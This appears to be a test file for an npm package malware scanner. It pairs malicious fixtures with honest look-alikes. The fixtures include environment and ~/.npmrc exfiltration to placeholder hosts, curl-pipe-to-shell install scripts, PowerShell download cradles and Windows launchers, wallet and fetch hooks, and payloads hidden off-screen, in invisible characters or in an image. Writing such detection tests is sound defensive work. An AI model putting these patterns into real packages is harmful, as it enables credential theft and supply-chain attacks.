// The analyses added for issue 18, each on a malicious shape and an honest look-alike: data flow from a source to a
// sink (within a file and across the package's modules), install-time commands behind `npm run` and binding.gyp,
// browser and wallet hooks, payloads hidden off-screen, in invisible characters or read from an image, and Windows
// launchers.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { packFiles } from '../fixtures/malware/corpus.ts';
import { scanTarball, type ScanResult } from '../../src/safety/scan/scanner.ts';
import { loadSignatures } from '../../src/safety/scan/signatures.ts';

const signatures = loadSignatures();
const scan = (files: Record<string, string | Buffer>, manifest: Record<string, unknown> = {}): ScanResult =>
  scanTarball(packFiles({ 'package.json': JSON.stringify({ name: 'p', version: '1.0.0', ...manifest }), ...files }), {
    signatures,
  });
const rules = (r: ScanResult) => new Set(r.findings.filter((f) => f.weight > 0).map((f) => f.rule));

describe('data flow', () => {
  it('follows the environment through a copy into a request body', () => {
    const r = scan({
      'index.js': `const https = require('https');\nconst copy = { ...process.env };\nconst body = JSON.stringify(copy);\nconst req = https.request({ hostname: 'x.example.invalid', method: 'POST' });\nreq.end(body);\n`,
    });
    assert.ok(rules(r).has('data-flow-exfiltration'));
    assert.notEqual(r.verdict, 'clean');
  });
  it('does not flag a setting read from the environment and sent, or the environment handed to a child', () => {
    const r = scan({
      'index.js': `const https = require('https');\nconst cp = require('child_process');\nconst port = process.env.PORT;\nhttps.get('https://api.example.invalid/?p=' + port);\ncp.spawn('node', ['x.js'], { env: process.env });\n`,
    });
    assert.ok(!rules(r).has('data-flow-exfiltration'));
    assert.equal(r.verdict, 'clean');
  });
  it('follows a source across modules: one reads and exports, another sends', () => {
    const r = scan({
      'index.js': `require('./lib/send');\n`,
      'lib/read.js': `module.exports = function () { const all = Object.assign({}, process.env); return JSON.stringify(all); };\n`,
      'lib/send.js': `const data = require('./read')();\nfetch('https://x.example.invalid/c', { method: 'POST', body: data });\n`,
    });
    assert.ok(r.findings.some((f) => f.rule === 'data-flow-exfiltration' && f.file === 'lib/send.js'));
    const honest = scan({
      'index.js': `require('./lib/send');\n`,
      'lib/read.js': `module.exports = function () { return { retries: 3 }; };\n`,
      'lib/send.js': `const data = require('./read')();\nfetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(data) });\n`,
    });
    assert.ok(!rules(honest).has('data-flow-exfiltration'));
  });
});

describe('data flow by binding, not by name', () => {
  // The shape of a minified bundle: every function calls its variables e, t, n; one of them reads the environment,
  // an unrelated one sends a request. Keyed by name, `t` was one variable and the bundle an exfiltration.
  const bundle = (sendBody: string) =>
    `!function(){function a(e){var t=process.env;return Object.keys(t).length+e}` +
    `function b(e,t){return fetch("https://api.example.invalid/v1",{method:"POST",body:${sendBody}})}` +
    `function c(n){var t=n.map(function(t){return t*2});return b(0,t)}module.exports={a:a,c:c}}();\n`;
  it('does not join variables of different functions that share a one-letter name', () => {
    const r = scan({ 'dist/bundle.min.js': bundle('JSON.stringify(t)') });
    assert.ok(!rules(r).has('data-flow-exfiltration'));
    assert.equal(r.verdict, 'clean');
  });
  it('still follows a source into a closure that sends it', () => {
    const r = scan({
      'dist/bundle.min.js': `!function(){function a(){var t=process.env;return function(e){return fetch(e,{method:"POST",body:JSON.stringify(t)})}}module.exports=a}();\n`,
    });
    assert.ok(rules(r).has('data-flow-exfiltration'));
    assert.notEqual(r.verdict, 'clean');
  });
  it('keeps block-scoped names apart and follows a block-scoped source', () => {
    const apart = scan({
      'index.js': `{ let t = process.env; module.exports = Object.keys(t); }\n{ let t = [1, 2]; fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(t) }); }\n`,
    });
    assert.ok(!rules(apart).has('data-flow-exfiltration'));
    const joined = scan({
      'index.js': `{ let t = process.env; fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(t) }); }\n`,
    });
    assert.ok(rules(joined).has('data-flow-exfiltration'));
  });
  it('reads process.env under another name like process.env: a setting is not the environment, a token is a secret', () => {
    const setting = scan({
      'index.js': `var e = process.env;\nvar p = e.HTTPS_PROXY || e.https_proxy;\nconst { NODE_OPTIONS } = process.env;\nfetch('https://x.example.invalid/?p=' + p + NODE_OPTIONS);\n`,
    });
    assert.ok(!rules(setting).has('data-flow-exfiltration') && !rules(setting).has('data-flow-secret'));
    const secret = scan({
      'index.js': `const { NPM_TOKEN: t } = process.env;\nfetch('https://x.example.invalid/', { method: 'POST', body: t });\n`,
    });
    assert.ok(rules(secret).has('data-flow-secret'));
    const whole = scan({
      'index.js': `var e = process.env;\nfetch('https://x.example.invalid/', { method: 'POST', body: JSON.stringify(e) });\n`,
    });
    assert.ok(rules(whole).has('data-flow-exfiltration'));
  });
});

describe('bundles: co-occurrence is context, flows are evidence', () => {
  // Hundreds of modules in one file: one names ~/.npmrc (a registry client), another posts telemetry.
  const filler = Array.from({ length: 4000 }, (_, i) => `function m${i}(a){return a*${i}+1}`).join('\n');
  const bundle = (send: string) =>
    `var fs=require("fs"),os=require("os");\nfunction rc(){return fs.readFileSync(os.homedir()+"/.npmrc","utf8").split("\\n")}\n${filler}\n` +
    `function tel(){var t=Date.now();${send}}\nmodule.exports={rc:rc,tel:tel};\n`;
  it('does not flag a bundle for naming a credential file in one module and using the network in another', () => {
    const text = bundle(`return fetch("https://telemetry.example.invalid/v1",{method:"POST",body:String(t)})`);
    assert.ok(text.length >= 100_000);
    const r = scan({ 'dist/cli.js': text });
    assert.equal(r.verdict, 'clean');
    // The same two modules in a small file are the stealer's shape.
    const small = scan({
      'lib/a.js': bundle('').replace(filler, '') + 'fetch("https://x.example.invalid",{method:"POST"});',
    });
    assert.ok(rules(small).has('credential-exfiltration'));
  });
  it('still flags a bundle in which the credential file reaches the network', () => {
    const r = scan({
      'dist/cli.js': bundle(
        `var c=fs.readFileSync(os.homedir()+"/.npmrc","utf8");return fetch("https://telemetry.example.invalid/v1",{method:"POST",body:c})`,
      ),
    });
    assert.ok(rules(r).has('data-flow-exfiltration'));
    assert.notEqual(r.verdict, 'clean');
  });
});

describe('shell command patterns', () => {
  const shell = (line: string) => rules(scan({ 'bin/run.ps1': `${line}\n` })).has('shell-command');
  it('flags PowerShell download cradles', () => {
    assert.ok(shell(`IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`));
    assert.ok(shell(`Invoke-Expression (Invoke-WebRequest -Uri http://198.51.100.7/a -UseBasicParsing).Content`));
    assert.ok(shell(`iwr http://198.51.100.7/a | iex`));
    assert.ok(shell(`Invoke-RestMethod http://198.51.100.7/a | Invoke-Expression`));
  });
  it('does not flag Invoke-Expression running a local program, a keyword list, or curl-config', () => {
    assert.ok(!shell('Invoke-Expression "& `"$NODE_EXE`" `"$NPM_CLI_JS`" $NPM_ARGS"'));
    assert.ok(!shell('Import-Csv|Invoke-Expression|Invoke-RestMethod|Invoke-WebRequest|Measure-Command'));
    assert.ok(
      !rules(scan({ 'build.sh': 'if [ -f `curl-config --prefix`/lib/libcurl.dylib ]; then echo y; fi\n' })).has(
        'shell-command',
      ),
    );
  });
  it('weighs scripts under ci/ and .github/ like tests: installing does not run them', () => {
    const line = 'curl -o- https://x.example.invalid/install.sh | bash\n';
    const inCi = scan({ 'scripts/ci/setup.sh': line }).findings.find((f) => f.rule === 'shell-command')!;
    const inLib = scan({ 'scripts/setup.sh': line }).findings.find((f) => f.rule === 'shell-command')!;
    assert.equal(inCi.weight, inLib.weight / 2);
  });
});

describe('install-time commands', () => {
  it('follows npm run from a lifecycle script to the script it names', () => {
    const r = scan(
      { 'index.js': '' },
      { scripts: { postinstall: 'npm run setup', setup: 'curl -s https://x.invalid/i | sh' } },
    );
    assert.ok(r.findings.some((f) => f.rule === 'install-script-command' && /setup/.test(f.evidence)));
    const honest = scan({ 'index.js': '' }, { scripts: { postinstall: 'npm run build', build: 'tsc -p .' } });
    assert.ok(!rules(honest).has('install-script-command'));
  });
  it('reads the command expansions of binding.gyp as install-time commands', () => {
    const gyp = (cmd: string) =>
      JSON.stringify({ targets: [{ target_name: 'a', sources: ['a.cc'], include_dirs: [`<!(${cmd})`] }] });
    const r = scan({ 'binding.gyp': gyp('curl -s http://198.51.100.1/x | sh'), 'a.cc': '' });
    assert.ok(r.findings.some((f) => f.rule === 'install-script-command' && /binding\.gyp/.test(f.evidence)));
    const honest = scan({ 'binding.gyp': gyp(`node -p "require('node-addon-api').include"`), 'a.cc': '' });
    assert.equal(honest.verdict, 'clean');
  });
});

describe('browser payloads', () => {
  it('flags a replaced wallet provider method, and fetch hooks only next to crypto-address patterns', () => {
    const wallet = scan({
      'index.js': `const r = window.ethereum.request.bind(window.ethereum);\nwindow.ethereum.request = async (q) => r(q);\n`,
    });
    assert.ok(rules(wallet).has('wallet-provider-hook'));
    const swap = scan({
      'index.js': `const f = window.fetch;\nwindow.fetch = async (...a) => { const r = await f(...a); const t = (await r.text()).replace(/0x[a-fA-F0-9]{40}/g, 'x'); return new Response(t); };\n`,
    });
    assert.ok(rules(swap).has('address-swap-hook'));
    const polyfill = scan({
      'index.js': `if (!self.fetch) { self.fetch = function (u) { return new Promise(() => {}); }; }\n`,
    });
    assert.ok(!rules(polyfill).has('address-swap-hook'));
    assert.equal(polyfill.verdict, 'clean');
  });
});

describe('hidden payloads', () => {
  it('flags code pushed off-screen by whitespace, not long aligned comments', () => {
    const r = scan({ 'index.js': `module.exports = 1;${' '.repeat(400)}require('child_process').exec('id');\n` });
    assert.ok(rules(r).has('offscreen-code'));
    const honest = scan({ 'index.js': `module.exports = 1;${' '.repeat(400)}// ---- end of table ----\n` });
    assert.ok(!rules(honest).has('offscreen-code'));
  });
  it('flags runs of invisible characters, not a single zero-width joiner', () => {
    const hidden = [...'eval(1)'.repeat(6)].map((c) => String.fromCodePoint(0xe000 + c.charCodeAt(0))).join('');
    const r = scan({
      'index.js': `const s = '${hidden}';\neval([...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe000)).join(''));\n`,
    });
    assert.ok(rules(r).has('invisible-characters') && rules(r).has('invisible-payload-eval'));
    const honest = scan({ 'index.js': `module.exports = 'family: 👨\u200d👩\u200d👧';\n` });
    assert.ok(!rules(honest).has('invisible-characters'));
  });
  it('weighs an invisible run that nothing evaluates as data, and one run through module._compile as a payload', () => {
    const run = [...'abcdefgh'.repeat(8)].map((c) => String.fromCodePoint(0xe000 + c.charCodeAt(0))).join('');
    const table = scan({
      'dist/cptable.js': `var t = '${run}';\nmodule.exports = (i) => String.fromCharCode(t.charCodeAt(i) - 0xe000);\n`,
    });
    assert.ok(table.findings.some((f) => f.rule === 'invisible-characters' && f.weight <= 1));
    assert.equal(table.verdict, 'clean');
    const compiled = scan({
      'index.js': `const s = '${run}';\nmodule._compile([...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe000)).join(''), __filename);\n`,
    });
    assert.ok(rules(compiled).has('invisible-payload-eval'));
    assert.notEqual(compiled.verdict, 'clean');
  });
  it('flags evaluating what a file read from an image of its own', () => {
    const r = scan({
      'index.js': `const b = require('fs').readFileSync(__dirname + '/logo.png');\neval(b.slice(b.lastIndexOf('IEND') + 8).toString());\n`,
    });
    assert.ok(rules(r).has('payload-from-media'));
    const honest = scan({
      'index.js': `const b = require('fs').readFileSync(__dirname + '/logo.png');\nmodule.exports = b.length;\n`,
    });
    assert.ok(!rules(honest).has('payload-from-media'));
  });
});

describe('Windows launchers', () => {
  it('flags mshta, encoded PowerShell and rundll32 of a dropped DLL, not rundll32 url.dll to open a link', () => {
    for (const cmd of [
      'mshta http://203.0.113.5/a.hta',
      'powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      'rundll32.exe node-gyp.dll,main',
      'bitsadmin /transfer j http://x.invalid/a.exe a.exe',
    ]) {
      const r = scan({ 'index.js': `require('child_process').exec(${JSON.stringify(cmd)});\n` });
      assert.ok(
        r.findings.some((f) => f.rule === 'shell-command' && /Windows launcher/.test(f.evidence)),
        cmd,
      );
    }
    const honest = scan({
      'index.js': `require('child_process').exec('rundll32 url.dll,FileProtocolHandler ' + url);\n`,
    });
    assert.ok(!honest.findings.some((f) => /Windows launcher/.test(f.evidence)));
  });
});
